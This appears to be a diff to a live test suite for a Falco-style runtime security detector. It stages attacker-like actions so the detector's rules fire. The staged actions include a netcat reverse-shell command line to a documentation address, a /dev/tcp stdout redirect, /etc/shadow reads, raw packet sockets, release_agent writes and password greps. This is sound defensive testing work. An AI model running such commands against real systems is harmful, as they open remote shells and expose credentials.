@@ -24,12 +24,15 @@ Prints `RESULT: N passed, M failed, K skipped`.
 """
 import json
 import os
+import pty
+import socket
 import shutil
 import signal
 import subprocess
 import sys
 import tempfile
 import time
+import urllib.request
 import uuid
 
 ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
@@ -80,7 +83,7 @@ def wait_for(fn, timeout=60.0, step=0.1):
 class Daemon:
     """One `frc run` with JSON alerts in a file and proc.env appended to output_fields."""
 
-    def __init__(self, tmp, rules, extra=()):
+    def __init__(self, tmp, rules, extra=(), fields=("proc.env",)):
         self.tmp = tmp
         self.out = os.path.join(tmp, "alerts.jsonl")
         self.err = os.path.join(tmp, "stderr.txt")
@@ -92,7 +95,7 @@ class Daemon:
                  "-o", "stdout_output.enabled=false", "-o", "syslog_output.enabled=false",
                  "-o", "file_output.enabled=true", "-o", f"file_output.filename={self.out}",
                  "-o", "file_output.keep_alive=true", "-o", "log_level=info",
-                 "-o", 'append_output[]={"extra_fields": ["proc.env"]}', "-U"]
+                 "-o", "append_output[]=" + json.dumps({"extra_fields": list(fields)}), "-U"]
         args += list(extra)
         env = dict(os.environ, FRC_LOCK_FILE=self.lock)
         env.pop("FRC_LIVE_ID", None)
@@ -202,6 +205,35 @@ KMOD_PROBE_RULE = '''
   priority: NOTICE
   tags: [frc_live_test]
 '''
+
+PERL = shutil.which("perl") or "/usr/bin/perl"
+
+# a non-blocking TCP connect to $ARGV[0]:$ARGV[1]: status 0 once the SYN is out
+PERL_CONNECT = r'''
+use Socket; use Fcntl;
+socket(my $s, PF_INET, SOCK_STREAM, 0) or die "socket: $!";
+fcntl($s, F_SETFL, fcntl($s, F_GETFL, 0) | O_NONBLOCK);
+my $r = connect($s, pack_sockaddr_in($ARGV[1], inet_aton($ARGV[0])));
+exit(($r || $!{EINPROGRESS}) ? 0 : 3);
+'''
+
+# socket(AF_PACKET, SOCK_RAW, 0)
+PERL_PACKET_SOCKET = r'''
+socket(my $s, 17, 3, 0) or exit 1;
+exit 0;
+'''
+
+# socket(AF_INET, SOCK_DGRAM, 0): harmless
+PERL_INET_SOCKET = r'''
+socket(my $s, 2, 2, 0) or exit 1;
+exit 0;
+'''
+
+
+def as_nobody():
+    os.setgid(65534)
+    os.setuid(65534)
+
 
 PERL_TRACEME = r'''
 my $r = syscall(101, 0, 0, 0, 0);       # PTRACE_TRACEME
@@ -358,9 +390,48 @@ def scenario_upstream(tmp):
                {"fd.name": "/etc/shadow", "fd.nameraw": "/etc/../etc/../etc/shadow",
                 "proc.name": "frcread"})
 
+        # Read sensitive file trusted after startup: a server program (named httpd) that
+        # has been running for more than 5 s (proc.duration, from the events' own
+        # timestamps: not proc_is_new) opens /etc/shadow itself
+        aid = new_id()
+        act(aid, [httpd, "-c", "sleep 6; exec 3</etc/shadow"], check_rc=True)
+        expect(d, "upstream: httpd reads /etc/shadow after 6 s -> Read sensitive file trusted "
+                  "after startup", aid, "Read sensitive file trusted after startup",
+               {"fd.name": "/etc/shadow", "proc.name": "httpd", "proc.exepath": httpd,
+                "evt.type": "openat", "user.name": "root"})
+        # System user interactive: a system user (nobody) runs a program named login
+        login = os.path.join(work, "login")
+        shutil.copy("/bin/true", login)
+        aid = new_id()
+        act(aid, [login], check_rc=True, preexec_fn=as_nobody)
+        expect(d, "upstream: nobody runs 'login' -> System user interactive", aid,
+               "System user interactive",
+               {"proc.name": "login", "proc.exepath": login, "user.name": "nobody",
+                "user.uid": 65534, "evt.type": "execve"})
+        # Disallowed SSH Connection Non Standard Port: a program named ssh connects out to a
+        # public address on port 443 (non-blocking: EINPROGRESS is enough, nothing answers)
+        sshc = os.path.join(work, "ssh")
+        shutil.copy(PERL, sshc)
+        aid = new_id()
+        rc = act(aid, [sshc, "-e", PERL_CONNECT, "198.51.100.7", "443"])
+        if rc == 0:
+            expect(d, "upstream: 'ssh' connects to a public address on port 443 -> Disallowed "
+                      "SSH Connection Non Standard Port", aid,
+                   "Disallowed SSH Connection Non Standard Port",
+                   # (fd.rport depends on whether the test runs in a container: the
+                   # connection's name says the port)
+                   {"evt.type": "connect", "fd.l4proto": "tcp",
+                    "proc.exepath": sshc, "proc.name": "ssh",
+                    "fd.name": lambda v: not (v or "").endswith("->198.51.100.7:443")})
+        else:
+            skip("upstream: 'ssh' connects to a public address on port 443",
+                 "no route to a public address from this machine")
+
         # harmless actions fire nothing
         harmless = []
         for cmd in (["cat", "/etc/hostname"], ["ls", "-la", "/tmp"],
+                    # grep_more is never_true by default (see scenario 'tuning')
+                    ["grep", "-r", "-i", " pass ", work],
                     ["sh", "-c", f"echo hi > {work}/note; cat {work}/note"],
                     ["find", work, "-name", "note"], ["grep", "-c", "root", "/etc/passwd"],
                     ["ln", "-s", "/etc/hostname", f"{work}/hostname-link"],
@@ -382,6 +453,211 @@ def scenario_upstream(tmp):
               and "Kernel events:" in err, err[-1500:])
         bad = [a for a in d.alerts() if "_bad_json" in a]
         check("upstream: every alert line is one JSON object", not bad, bad[:2])
+
+
+class FakeContainer:
+    """A cgroup named like a Docker container's (cpu controller: /docker/<64 hex>): a process
+    moved into it before its execve is, for frc as for Falco's container plugin, in a
+    container with that id (container.id = the first 12 hex digits), without a container
+    engine. Skipped (with the reason) where no cgroup can be created."""
+
+    def __init__(self):
+        self.cid = uuid.uuid4().hex + uuid.uuid4().hex
+        self.made = []
+        self.procs = None
+        for root in ("/sys/fs/cgroup/cpu", "/sys/fs/cgroup/cpu,cpuacct", "/sys/fs/cgroup"):
+            if not os.path.exists(os.path.join(root, "cgroup.procs")):
+                continue
+            try:
+                for d in (os.path.join(root, "docker"), os.path.join(root, "docker", self.cid)):
+                    if not os.path.isdir(d):
+                        os.mkdir(d)
+                        self.made.append(d)
+                self.procs = os.path.join(root, "docker", self.cid, "cgroup.procs")
+                return
+            except OSError as e:
+                self.why = f"cannot create a cgroup below {root}: {e}"
+                self.remove()
+        self.why = getattr(self, "why", "no cgroup hierarchy with a cpu controller")
+
+    def enter(self):
+        """preexec_fn: move the child into the container's cgroup before it execs"""
+        with open(self.procs, "w") as f:
+            f.write(str(os.getpid()))
+
+    def remove(self):
+        for d in reversed(self.made):
+            try:
+                os.rmdir(d)
+            except OSError:
+                pass
+        self.made = []
+
+
+def act_tty(aid, argv, preexec):
+    """Run argv with a pseudo-terminal as its controlling terminal (proc.tty != 0)."""
+    env = dict(os.environ, FRC_LIVE_ID=aid)
+    pid, fd = pty.fork()
+    if pid == 0:
+        try:
+            preexec()
+            os.execve(argv[0], argv, env)
+        finally:
+            os._exit(127)
+    try:
+        while True:
+            try:
+                if not os.read(fd, 4096):
+                    break
+            except OSError:
+                break
+    finally:
+        os.close(fd)
+    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
+
+
+def scenario_container(tmp):
+    """The upstream container rules, in a container made of a cgroup (FakeContainer)."""
+    c = FakeContainer()
+    if not c.procs:
+        skip("container: upstream container rules", c.why)
+        return
+    work = os.path.join(tmp, "work")
+    os.makedirs(work)
+    nc = os.path.join(work, "nc")
+    shutil.copy("/bin/true", nc)
+    runc = os.path.join(work, "runc")
+    shutil.copy("/bin/bash", runc)
+    short = c.cid[:12]
+    lst = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    lst.bind(("127.0.0.1", 0))
+    lst.listen(16)
+    port = lst.getsockname()[1]
+    d = Daemon(tmp, [UPSTREAM], fields=("proc.env", "container.id"))
+    try:
+        if not check("container: frc run starts with falco_rules.yaml", d.wait_ready(),
+                     d.stderr()[-2000:]):
+            return
+
+        def incont(aid, cmd, **kw):
+            return act(aid, cmd, preexec_fn=c.enter, **kw)
+
+        aid = new_id()
+        incont(aid, [nc, "-e", "/bin/sh", "198.51.100.7", "4444"], check_rc=True)
+        expect(d, "container: nc -e -> Netcat Remote Code Execution in Container", aid,
+               "Netcat Remote Code Execution in Container",
+               {"container.id": short, "proc.name": "nc", "evt.type": "execve",
+                "proc.cmdline": "nc -e /bin/sh 198.51.100.7 4444", "proc.exepath": nc})
+        aid = new_id()
+        incont(aid, ["perl", "-e", PERL_PACKET_SOCKET], check_rc=True)
+        expect(d, "container: socket(AF_PACKET) -> Packet socket created in container", aid,
+               "Packet socket created in container",
+               {"container.id": short, "proc.name": "perl", "evt.type": "socket",
+                "evt.args": lambda v: "AF_PACKET" not in (v or "")})
+        aid = new_id()
+        incont(aid, ["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; exec 1>&3"],
+               check_rc=True)
+        expect(d, "container: stdout onto a TCP socket -> Redirect STDOUT/STDIN to Network "
+                  "Connection in Container", aid,
+               "Redirect STDOUT/STDIN to Network Connection in Container",
+               # a container without a known IP: its addresses are not local, so
+               # (as in libsinsp) fd.lport is the server's port
+               {"container.id": short, "proc.name": "bash", "fd.lport": port,
+                "fd.sip": "127.0.0.1", "fd.type": "ipv4",
+                "fd.name": lambda v: not (v or "").endswith(f"->127.0.0.1:{port}"),
+                "evt.type": lambda v: v not in ("dup", "dup2", "dup3")})
+        aid = new_id()
+        incont(aid, ["perl", "-e", PERL_FINIT_MODULE], check_rc=True)
+        expect(d, "container: finit_module as root -> Linux Kernel Module Injection Detected",
+               aid, "Linux Kernel Module Injection Detected",
+               {"container.id": short, "proc.name": "perl", "evt.type": "finit_module"})
+        agent = os.path.join(work, "release_agent")
+        aid = new_id()
+        incont(aid, ["sh", "-c", f": > {agent}"], check_rc=True)
+        expect(d, "container: write to a release_agent file -> Detect release_agent File "
+                  "Container Escapes", aid, "Detect release_agent File Container Escapes",
+               {"container.id": short, "fd.name": agent, "proc.name": "sh",
+                "thread.cap_effective": lambda v: "CAP_SYS_ADMIN" not in (v or "")})
+        aid = new_id()
+        rc = act_tty(aid, [runc, "-c", "sh -c true; true"], c.enter)
+        check("container: the terminal action ran", rc == 0, f"status {rc}")
+        expect(d, "container: shell with a terminal below 'runc' -> Terminal shell in container",
+               aid, "Terminal shell in container",
+               {"container.id": short, "proc.name": "sh", "proc.pname": "runc",
+                "proc.tty": lambda v: not v, "evt.type": "execve"})
+
+        harmless = []
+        for cmd in (["cat", "/etc/hostname"], ["ls", "/"], [nc, "-z", "127.0.0.1", "9"],
+                    ["perl", "-e", PERL_INET_SOCKET], ["sh", "-c", "exec 1>/dev/null; true"],
+                    ["sh", "-c", f": > {work}/agent"],
+                    ["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; exec 4>&3"]):
+            aid = new_id()
+            harmless.append(aid)
+            incont(aid, cmd, cwd=work)
+        expect_nothing(d, "container: harmless actions in the container (cat, ls, nc -z, an "
+                          "inet socket, dup of a file, dup of a socket above fd 2) fire "
+                          "nothing", harmless, [nc, "-e", "/bin/sh", "198.51.100.7", "4444"],
+                       "Netcat Remote Code Execution in Container", work)
+    finally:
+        rc = d.stop(signal.SIGTERM)
+        lst.close()
+        c.remove()
+        check("container: SIGTERM stops frc run with status 0", rc == 0, f"rc={rc}")
+
+
+TUNING_RULES = '''
+# A Falco user's tuning file, loaded after falco_rules.yaml.
+# enable the broader password grep (a template macro, never_true upstream)
+- macro: grep_more
+  condition: (evt.num >= 0)
+  override:
+    condition: replace
+# a known debugger is allowed to attach
+- list: known_ptrace_binaries
+  items: [frctracer]
+  override:
+    items: append
+'''
+
+
+def scenario_tuning(tmp):
+    """Upstream rules tuned the way a Falco user does it: a rules file after
+    falco_rules.yaml that overrides a template macro and appends to a list, and
+    -o rules[]={disable: ...} in the configuration."""
+    work = os.path.join(tmp, "work")
+    os.makedirs(work)
+    reader = os.path.join(work, "frcread")
+    shutil.copy("/bin/cat", reader)
+    tracer = os.path.join(work, "frctracer")
+    shutil.copy(PERL, tracer)
+    tuning = os.path.join(tmp, "tuning.yaml")
+    with open(tuning, "w") as f:
+        f.write(TUNING_RULES)
+    d = Daemon(tmp, [UPSTREAM, tuning],
+               extra=["-o", 'rules[]={"disable": {"rule": "Read sensitive file untrusted"}}'])
+    try:
+        if not check("tuning: frc run starts with falco_rules.yaml + a tuning file",
+                     d.wait_ready(), d.stderr()[-2000:]):
+            return
+        aid = new_id()
+        act(aid, ["grep", "-r", "-i", " pass ", work])
+        expect(d, "tuning: grep_more enabled -> grep ' pass ' is Search Private Keys or "
+                  "Passwords", aid, "Search Private Keys or Passwords",
+               {"proc.name": "grep", "proc.cmdline": f"grep -r -i  pass  {work}"})
+        quiet = []
+        aid = new_id()
+        quiet.append(aid)
+        act(aid, [tracer, "-e", PERL_PTRACE], check_rc=True)
+        aid = new_id()
+        quiet.append(aid)
+        act(aid, [reader, "/etc/shadow"], check_rc=True)
+        expect_nothing(d, "tuning: an appended known_ptrace_binaries entry and a disabled rule "
+                          "silence ptrace attach and the /etc/shadow read", quiet,
+                       ["grep", "-r", "-i", " pass ", work], "Search Private Keys or Passwords",
+                       work)
+    finally:
+        rc = d.stop(signal.SIGTERM)
+        check("tuning: SIGTERM stops frc run with status 0", rc == 0, f"rc={rc}")
 
 
 def scenario_ours(tmp):
@@ -435,6 +711,16 @@ def scenario_ours(tmp):
         act(aid, [tbin], check_rc=True)
         expect(d, "ours: program run from /tmp", aid, "frc Program run from a temporary directory",
                {"proc.exepath": tbin, "proc.name": "dropped"})
+        aid = new_id()
+        shm = f"/dev/shm/frco-{os.getpid()}"
+        shutil.copy("/bin/true", shm)
+        try:
+            act(aid, [shm], check_rc=True)
+        finally:
+            os.unlink(shm)
+        expect(d, "ours: program run from /dev/shm", aid,
+               "frc Program run from a temporary directory",
+               {"proc.exepath": shm, "proc.name": os.path.basename(shm)})
         aid = new_id()
         act(aid, ["perl", "-e", PERL_MEMFD], check_rc=True)
         expect(d, "ours: memfd execution", aid, "frc Fileless execution from memory",
@@ -502,14 +788,20 @@ def scenario_ours(tmp):
 
 STORM_C = r'''
 #include <fcntl.h>
+#include <pthread.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
 #include <unistd.h>
+static void *nothing(void *arg)
+{
+	return arg;
+}
 int main(int argc, char **argv)
 {
 	long cheap = atol(argv[1]), opens = atol(argv[2]), execs = atol(argv[3]);
+	long threads = atol(argv[5]);
 	for (long i = 0; i < cheap; i++)
 		syscall(SYS_getppid);
 	for (long i = 0; i < opens; i++) {
@@ -525,9 +817,40 @@ int main(int argc, char **argv)
 		}
 		waitpid(p, NULL, 0);
 	}
+	for (long i = 0; i < threads; i++) {
+		pthread_t t;
+		if (pthread_create(&t, NULL, nothing, NULL) == 0)
+			pthread_join(t, NULL);
+	}
 	return 0;
 }
 '''
+
+
+def free_port():
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def prom(port):
+    """The daemon's Prometheus metrics as {name: value} (labels dropped, first sample)."""
+    try:
+        with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=10) as r:
+            text = r.read().decode()
+    except OSError:
+        return {}
+    out = {}
+    for line in text.splitlines():
+        if not line or line.startswith("#"):
+            continue
+        name, _, rest = line.partition(" ")
+        name = name.split("{", 1)[0]
+        try:
+            out.setdefault(name, float(rest.split()[0]))
+        except (ValueError, IndexError):
+            pass
+    return out
 
 
 def rss_kb(pid):
@@ -549,34 +872,73 @@ def scenario_stress(tmp):
     src = storm + ".c"
     with open(src, "w") as f:
         f.write(STORM_C)
-    subprocess.run([shutil.which("cc") or "gcc", "-O2", "-o", storm, src], check=True)
+    subprocess.run([shutil.which("cc") or "gcc", "-O2", "-pthread", "-o", storm, src],
+                   check=True)
     target = os.path.join(tmp, "target")
     with open(target, "w") as f:
         f.write("x")
     reader = os.path.join(tmp, "frcread")
     shutil.copy("/bin/cat", reader)
-    d = Daemon(tmp, [UPSTREAM])
+    port = free_port()
+    d = Daemon(tmp, [UPSTREAM], extra=[
+        "-o", "webserver.enabled=true", "-o", "webserver.listen_address=127.0.0.1",
+        "-o", f"webserver.listen_port={port}", "-o", "webserver.prometheus_metrics_enabled=true",
+        "-o", "metrics.enabled=true"])
     try:
         if not check("stress: frc run starts", d.wait_ready(), d.stderr()[-2000:]):
             return
+        # the metrics are refreshed by the daemon's statistics tick: wait for the first
+        m0 = wait_for(lambda: (lambda m: m if m.get("falcosecurity_scap_n_threads_total")
+                               else None)(prom(port)), 30)
+        if not check("stress: /metrics answers with the state table sizes", m0, m0):
+            return
         rss0 = rss_kb(d.p.pid)
         # 3 million cheap syscalls (dropped in the kernel), 200k opens + closes (traced:
-        # 400k events), 2000 fork+exec (traced: clone, execve, opens, exits)
+        # 400k events), 2000 fork+exec (traced: clone, execve, opens, exits), 2000 threads
+        # created and joined (clone, exit)
         t0 = time.time()
-        act(new_id(), [storm, "3000000", "200000", "2000", target], check_rc=True)
+        act(new_id(), [storm, "3000000", "200000", "2000", target, "2000"], check_rc=True)
         storm_s = time.time() - t0
         check("stress: the daemon survived the storm", d.p.poll() is None,
               d.stderr()[-2000:])
-        rss1 = rss_kb(d.p.pid)
-        check("stress: memory stays bounded (RSS growth < 256 MiB)",
-              rss0 is not None and rss1 is not None and rss1 - rss0 < 256 * 1024,
-              f"rss before {rss0} kB, after {rss1} kB")
-        # still detecting after the storm
+        # still detecting after the storm; events are handled in order, so once this alert
+        # is out every event of the storm has been processed (or counted as dropped)
         aid = new_id()
         act(aid, [reader, "/etc/shadow"], check_rc=True)
         check("stress: still detects after the storm",
               d.wait_alert(aid, "Read sensitive file untrusted", timeout=120),
               d.stderr()[-1500:])
+        rss1 = rss_kb(d.p.pid)
+        check("stress: memory stays bounded (RSS growth < 256 MiB)",
+              rss0 is not None and rss1 is not None and rss1 - rss0 < 256 * 1024,
+              f"rss before {rss0} kB, after {rss1} kB")
+        # the thread and fd tables evict dead entries: 4000 tasks came and went, 200k
+        # files were opened and closed; the statistics tick publishes the state after the
+        # last storm event once the removals are counted
+        removed0 = m0.get("falcosecurity_scap_n_removed_threads_total", 0)
+        m1 = wait_for(lambda: (lambda m: m if m.get(
+            "falcosecurity_scap_n_removed_threads_total", 0) - removed0 >= 4000 else None)(
+            prom(port)), 60) or prom(port)
+        drops = m1.get("falcosecurity_scap_n_drops_total", 0)
+        grown_t = m1.get("falcosecurity_scap_n_threads_total", 0) - \
+            m0["falcosecurity_scap_n_threads_total"]
+        grown_f = m1.get("falcosecurity_scap_n_fds_total", 0) - \
+            m0.get("falcosecurity_scap_n_fds_total", 0)
+        info = (f"threads {m0['falcosecurity_scap_n_threads_total']} -> "
+                f"{m1.get('falcosecurity_scap_n_threads_total')}, removed "
+                f"{m1.get('falcosecurity_scap_n_removed_threads_total', 0) - removed0}, fds "
+                f"{m0.get('falcosecurity_scap_n_fds_total')} -> "
+                f"{m1.get('falcosecurity_scap_n_fds_total')}, drops {drops}")
+        if drops == 0:
+            check("stress: the thread table evicts the 4000 exited tasks (growth < 400)",
+                  m1.get("falcosecurity_scap_n_removed_threads_total", 0) - removed0 >= 4000
+                  and grown_t < 400, info)
+            check("stress: the fd tables evict the 200k closed files (growth < 2000)",
+                  grown_f < 2000, info)
+        else:
+            # a dropped exit leaves its thread until the inactive-thread purge
+            skip("stress: table eviction after the storm", f"events were dropped ({info})")
+        print(f"INFO stress: {info}")
     finally:
         t0 = time.time()
         rc = d.stop(signal.SIGTERM, timeout=120)
@@ -602,6 +964,75 @@ def scenario_stress(tmp):
         check("stress: drops are reported by the drop manager",
               "event drop detected" in err, err[-1500:])
     print(f"INFO stress: storm took {storm_s:.1f}s; {line}")
+
+
+def scenario_drops(tmp):
+    """Forced drops: the daemon is stopped (SIGSTOP) while 300k opens and closes, with the
+    kernel filter off, fill its ring buffer far beyond its 8 MiB; once resumed it must
+    survive, keep detecting, report exactly what was dropped (seen = received + dropped)
+    and raise Falco's 'syscall event drop' internal alert. Not timing-dependent: the
+    consumer does not run at all while the storm runs."""
+    if not shutil.which("cc") and not shutil.which("gcc"):
+        skip("drops", "no C compiler to build the storm program")
+        return
+    storm = os.path.join(tmp, "storm")
+    src = storm + ".c"
+    with open(src, "w") as f:
+        f.write(STORM_C)
+    subprocess.run([shutil.which("cc") or "gcc", "-O2", "-pthread", "-o", storm, src],
+                   check=True)
+    target = os.path.join(tmp, "target")
+    with open(target, "w") as f:
+        f.write("x")
+    reader = os.path.join(tmp, "frcread")
+    shutil.copy("/bin/cat", reader)
+    # the drop actions of Falco's stock falco.yaml (without a configuration they are
+    # "ignore", as in Falco)
+    d = Daemon(tmp, [UPSTREAM], extra=["--no-kernel-filter",
+                                       "-o", "syscall_event_drops.actions[]=log",
+                                       "-o", "syscall_event_drops.actions[]=alert"])
+    try:
+        if not check("drops: frc run starts", d.wait_ready(), d.stderr()[-2000:]):
+            return
+        d.p.send_signal(signal.SIGSTOP)
+        try:
+            act(new_id(), [storm, "0", "300000", "0", target, "0"], check_rc=True)
+        finally:
+            d.p.send_signal(signal.SIGCONT)
+        # the first attempts may meet a ring buffer still full of the storm's backlog (and
+        # be dropped, counted): detection resumes once the daemon has caught up
+        seen_again = False
+        for _ in range(6):
+            aid = new_id()
+            act(aid, [reader, "/etc/shadow"], check_rc=True)
+            if d.wait_alert(aid, "Read sensitive file untrusted", timeout=30):
+                seen_again = True
+                break
+        check("drops: detects again once the backlog is processed", seen_again,
+              d.stderr()[-1500:])
+        check("drops: the daemon survived", d.p.poll() is None, d.stderr()[-1500:])
+        internal = [a for a in d.alerts() if a.get("rule") == "Falco internal: syscall event drop"]
+        check("drops: 'Falco internal: syscall event drop' alert with its counters",
+              internal and int(internal[0].get("output_fields", {}).get("n_drops", 0)) > 0
+              and "system calls dropped in last second" in internal[0].get("output", ""),
+              internal[:1] or [a.get("rule") for a in d.alerts()][:10])
+    finally:
+        rc = d.stop(signal.SIGTERM, timeout=120)
+        check("drops: SIGTERM stops it with status 0", rc == 0, f"rc={rc}")
+    err = d.stderr()
+    line = next((l for l in err.splitlines() if l.startswith("Kernel events:")), "")
+    try:
+        parts = line.replace(",", "").split()
+        seen, received, dropped = int(parts[2]), int(parts[7]), int(parts[9])
+    except (IndexError, ValueError):
+        fail("drops: kernel event accounting is reported", repr(line))
+        return
+    check(f"drops: events were dropped and counted exactly (seen {seen} = received "
+          f"{received} + dropped {dropped}, dropped > 0)",
+          dropped > 0 and seen == received + dropped and seen >= 600000, line)
+    check("drops: the drop manager reports the detection in the summary",
+          "event drop detected:" in err and "event drop detected: 0 " not in err, err[-1500:])
+    print(f"INFO drops: {line}")
 
 
 def scenario_errors(tmp):
@@ -656,7 +1087,9 @@ def main():
     only = set(sys.argv[1:])
     scen = [("ours", scenario_ours), ("errors", scenario_errors)]
     if os.path.exists(UPSTREAM):
-        scen = [("upstream", scenario_upstream)] + scen + [("stress", scenario_stress)]
+        scen = [("upstream", scenario_upstream), ("container", scenario_container),
+                ("tuning", scenario_tuning)] + scen + [("stress", scenario_stress),
+                                                       ("drops", scenario_drops)]
     else:
         skip("upstream and stress scenarios", "../shared (upstream falco_rules.yaml) is absent")
     for name, fn in scen:
